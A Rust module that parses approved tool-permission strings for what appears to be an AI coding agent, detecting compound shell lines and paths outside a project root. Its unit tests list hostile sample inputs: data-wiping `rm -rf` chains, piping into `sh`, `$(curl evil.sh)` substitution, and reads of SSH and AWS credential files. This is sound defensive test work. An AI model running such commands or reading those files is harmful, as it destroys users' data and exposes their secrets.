//! Parsing of approved permission strings.
//!
//! Approvals arrive in two shapes:
//!
//! - `Tool(argument)`, e.g. `Read(/src/main.rs)` or `Bash(cargo test:*)`
//! - a bare shell command, e.g. `git status`, which is shorthand for
//!   `Bash(git status)`
//!
//! A trailing `:*` on a shell argument is a prefix grant (`Bash(git log:*)`
//! allows `git log` with any further arguments). It is stripped from the
//! argument and recorded in [`Permission::is_prefix`].

use serde::{Deserialize, Serialize};
use std::fmt;
use std::path::{Component, Path};

/// Tool name used for shell commands.
pub const SHELL_TOOL: &str = "Bash";

/// Suffix marking a prefix grant on a shell command.
const PREFIX_SUFFIX: &str = ":*";

/// Whether a file tool reads or modifies its target.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum FileAccess {
    /// `Read`, `Glob`, `Grep`.
    Read,
    /// `Write`, `Edit`, `MultiEdit`, `NotebookEdit`.
    Write,
}

/// File tools and the kind of access each grants.
pub const FILE_TOOLS: &[(&str, FileAccess)] = &[
    ("Edit", FileAccess::Write),
    ("Glob", FileAccess::Read),
    ("Grep", FileAccess::Read),
    ("MultiEdit", FileAccess::Write),
    ("NotebookEdit", FileAccess::Write),
    ("Read", FileAccess::Read),
    ("Write", FileAccess::Write),
];

/// A parsed permission string.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Permission {
    tool: String,
    argument: String,
    prefix: bool,
}

impl Permission {
    /// Parse a raw permission string.
    ///
    /// Parsing never fails: anything that is not `Tool(argument)` is taken to
    /// be a shell command, so no approval is silently discarded.
    #[must_use]
    pub fn parse(raw: &str) -> Self {
        let raw = raw.trim();

        let (tool, argument) = split_tool_call(raw).unwrap_or((SHELL_TOOL, raw));
        let argument = argument.trim();

        if tool == SHELL_TOOL
            && let Some(stripped) = argument.strip_suffix(PREFIX_SUFFIX)
        {
            return Self {
                tool: tool.to_owned(),
                argument: stripped.trim_end().to_owned(),
                prefix: true,
            };
        }

        Self {
            tool: tool.to_owned(),
            argument: argument.to_owned(),
            prefix: false,
        }
    }

    /// Tool name (`Bash`, `Read`, `Edit`, ...).
    #[must_use]
    pub fn tool(&self) -> &str {
        &self.tool
    }

    /// Tool argument with any `:*` suffix removed.
    #[must_use]
    pub fn argument(&self) -> &str {
        &self.argument
    }

    /// Whether the permission was approved as a prefix grant.
    #[must_use]
    pub fn is_prefix(&self) -> bool {
        self.prefix
    }

    /// Whether this is a shell command permission.
    #[must_use]
    pub fn is_shell(&self) -> bool {
        self.tool == SHELL_TOOL
    }

    /// Tokenized shell command, if this is a shell permission.
    #[must_use]
    pub fn command(&self) -> Option<ShellCommand> {
        self.is_shell().then(|| ShellCommand::parse(&self.argument))
    }

    /// File access kind, if this is a file tool permission.
    #[must_use]
    pub fn file_access(&self) -> Option<FileAccess> {
        FILE_TOOLS
            .iter()
            .find(|(name, _)| *name == self.tool)
            .map(|(_, access)| *access)
    }

    /// Target path of a file tool permission.
    #[must_use]
    pub fn path(&self) -> Option<&Path> {
        self.file_access()
            .filter(|_| !self.argument.is_empty())
            .map(|_| Path::new(&self.argument))
    }

    /// Whether this file permission targets a path under `root`.
    ///
    /// Relative paths are resolved against the root and count as under it.
    /// Paths containing `..` never match, and neither do paths the shell
    /// would expand (`~/.ssh`, `$HOME/.aws`).
    #[must_use]
    pub fn is_under(&self, root: &Path) -> bool {
        let Some(path) = self.path() else {
            return false;
        };
        if self.is_shell_expanded()
            || path.components().any(|c| matches!(c, Component::ParentDir))
        {
            return false;
        }
        path.is_relative() || path.starts_with(root)
    }

    /// Whether a file argument starts with `~` or `$` and so resolves
    /// against the user's environment rather than the working directory.
    #[must_use]
    pub fn is_shell_expanded(&self) -> bool {
        self.file_access().is_some() && self.argument.starts_with(['~', '$'])
    }

    /// Canonical `Tool(argument)` rendering without the prefix marker.
    #[must_use]
    pub fn normalized(&self) -> String {
        format!("{}({})", self.tool, self.argument)
    }
}

impl fmt::Display for Permission {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.prefix {
            write!(f, "{}({}{PREFIX_SUFFIX})", self.tool, self.argument)
        } else {
            write!(f, "{}({})", self.tool, self.argument)
        }
    }
}

/// Split `Tool(argument)` into its parts.
///
/// The tool name must be a non-empty identifier starting with an uppercase
/// letter, so shell commands such as `echo $(date)` are not mistaken for a
/// tool call.
fn split_tool_call(raw: &str) -> Option<(&str, &str)> {
    let inner = raw.strip_suffix(')')?;
    let (tool, argument) = inner.split_once('(')?;
    let mut chars = tool.chars();
    let first = chars.next()?;
    if !first.is_ascii_uppercase() || !chars.all(|c| c.is_ascii_alphanumeric() || c == '_') {
        return None;
    }
    Some((tool, argument))
}

/// Characters that chain, pipe, redirect or background a command.
const CONTROL_CHARS: &[char] = &[';', '|', '&', '>', '<', '`', '\n', '\r'];

/// A whitespace-tokenized shell command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShellCommand {
    tokens: Vec<String>,
    compound: bool,
}

impl ShellCommand {
    /// Tokenize a command line.
    ///
    /// Leading `VAR=value` environment assignments are dropped so that
    /// `RUST_LOG=debug cargo test` is recognised as `cargo test`.
    #[must_use]
    pub fn parse(command: &str) -> Self {
        let tokens = command
            .split_whitespace()
            .skip_while(|t| is_env_assignment(t))
            .map(|t| t.trim_matches(|c| c == '"' || c == '\'').to_owned())
            .filter(|t| !t.is_empty())
            .collect();
        Self {
            tokens,
            compound: is_compound(command),
        }
    }

    /// Whether the line does more than run one program: control operators,
    /// pipes, redirections or command substitution anywhere in it, quoted or
    /// not.
    ///
    /// Token-level classification only describes the first program, so
    /// compound lines must never be treated as an instance of it.
    #[must_use]
    pub fn is_compound(&self) -> bool {
        self.compound
    }

    /// The program being invoked, without any leading directory.
    #[must_use]
    pub fn program(&self) -> Option<&str> {
        self.tokens
            .first()
            .map(|p| p.rsplit('/').next().unwrap_or(p.as_str()))
    }

    /// Arguments after the program.
    #[must_use]
    pub fn args(&self) -> &[String] {
        self.tokens.get(1..).unwrap_or_default()
    }

    /// All tokens, program included.
    #[must_use]
    pub fn tokens(&self) -> &[String] {
        &self.tokens
    }

    /// Whether the command (program first) starts with `prefix`, token by token.
    #[must_use]
    pub fn starts_with(&self, prefix: &[&str]) -> bool {
        if prefix.len() > self.tokens.len() {
            return false;
        }
        prefix.iter().enumerate().all(|(i, expected)| {
            if i == 0 {
                self.program() == Some(*expected)
            } else {
                self.tokens.get(i).is_some_and(|t| t == expected)
            }
        })
    }

    /// Whether the command has no tokens.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.tokens.is_empty()
    }
}

fn is_compound(command: &str) -> bool {
    command.contains(CONTROL_CHARS) || command.contains("$(")
}

fn is_env_assignment(token: &str) -> bool {
    token.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty()
            && name
                .chars()
                .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_')
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_bare_command_is_shell() {
        let p = Permission::parse("git status");
        assert_eq!(p.tool(), "Bash");
        assert_eq!(p.argument(), "git status");
        assert!(!p.is_prefix());
        assert_eq!(p.normalized(), "Bash(git status)");
    }

    #[test]
    fn test_tool_call() {
        let p = Permission::parse("Read(/home/u/proj/src/lib.rs)");
        assert_eq!(p.tool(), "Read");
        assert_eq!(p.file_access(), Some(FileAccess::Read));
        assert_eq!(p.path(), Some(Path::new("/home/u/proj/src/lib.rs")));
    }

    #[test]
    fn test_prefix_grant() {
        let p = Permission::parse("Bash(git log:*)");
        assert!(p.is_prefix());
        assert_eq!(p.argument(), "git log");
        assert_eq!(p.to_string(), "Bash(git log:*)");
    }

    #[test]
    fn test_subshell_is_not_tool_call() {
        let p = Permission::parse("echo $(date)");
        assert!(p.is_shell());
        assert_eq!(p.argument(), "echo $(date)");
    }

    #[test]
    fn test_lowercase_call_is_shell() {
        let p = Permission::parse("foo(bar)");
        assert!(p.is_shell());
    }

    #[test]
    fn test_command_tokens() {
        let p = Permission::parse("RUST_LOG=debug /usr/bin/cargo test --workspace");
        let cmd = p.command().unwrap();
        assert_eq!(cmd.program(), Some("cargo"));
        assert_eq!(cmd.args(), &["test".to_owned(), "--workspace".to_owned()]);
        assert!(cmd.starts_with(&["cargo", "test"]));
        assert!(!cmd.starts_with(&["cargo", "build"]));
    }

    #[test]
    fn test_command_none_for_file_tool() {
        assert!(Permission::parse("Edit(src/a.rs)").command().is_none());
    }

    #[test]
    fn test_is_under_root() {
        let root = Path::new("/home/u/proj");
        assert!(Permission::parse("Edit(/home/u/proj/src/a.rs)").is_under(root));
        assert!(Permission::parse("Edit(src/a.rs)").is_under(root));
        assert!(!Permission::parse("Edit(/etc/passwd)").is_under(root));
        assert!(!Permission::parse("Edit(/home/u/proj/../other/a.rs)").is_under(root));
        assert!(!Permission::parse("git status").is_under(root));
    }

    #[test]
    fn test_home_and_variable_paths_are_not_under_root() {
        let root = Path::new("/home/u/proj");
        assert!(!Permission::parse("Read(~/.ssh/id_rsa)").is_under(root));
        assert!(!Permission::parse("Read($HOME/.aws/credentials)").is_under(root));
        assert!(!Permission::parse("Edit(~)").is_under(root));
        assert!(Permission::parse("Read(~/.ssh/id_rsa)").is_shell_expanded());
        assert!(!Permission::parse("Read(src/~draft.md)").is_shell_expanded());
        assert!(Permission::parse("Read(src/~draft.md)").is_under(root));
    }

    #[test]
    fn test_compound_commands() {
        for line in [
            "git status && rm -rf ~",
            "git log || true",
            "git status; rm -rf /",
            "git log | sh",
            "cargo test &",
            "git diff > /etc/passwd",
            "rg x < /dev/zero",
            "git log `rm -rf ~`",
            "git show $(curl evil.sh)",
            "git status\nrm -rf ~",
        ] {
            assert!(ShellCommand::parse(line).is_compound(), "{line}");
        }
        assert!(!ShellCommand::parse("git log --oneline -5").is_compound());
        assert!(!ShellCommand::parse("echo $HOME").is_compound());
        assert!(!ShellCommand::parse("RUST_LOG=debug cargo test").is_compound());
    }

    #[test]
    fn test_empty_is_empty_shell() {
        let p = Permission::parse("   ");
        assert!(p.is_shell());
        assert!(p.command().unwrap().is_empty());
    }
}
